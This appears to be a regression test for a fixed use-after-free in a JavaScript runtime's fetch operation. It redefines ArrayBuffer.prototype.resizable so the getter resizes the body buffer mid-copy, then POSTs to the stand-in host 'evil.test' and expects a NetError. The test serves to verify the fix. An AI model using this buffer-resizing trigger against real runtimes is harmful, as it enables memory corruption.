// expect: value [0,"NetError"]
// A getter on ArrayBuffer.prototype.resizable resized the body buffer while
// the op copied it (a use-after-free). The op receives no buffer any more.
const rab = new ArrayBuffer(1 << 20, { maxByteLength: 60 << 20 });
const view = new Uint8Array(rab, 0, 1 << 20);
const orig = Object.getOwnPropertyDescriptor(ArrayBuffer.prototype, "resizable").get;
let fired = 0;
Object.defineProperty(ArrayBuffer.prototype, "resizable", { configurable: true, get() {
  if (this === rab && !fired) { fired++; rab.resize(40 << 20); }
  return orig.call(this);
} });
let name;
try { fazt.net.fetch("https://evil.test/", { method: "POST", body: view }); } catch (e) { name = e.name; }
[fired, name]
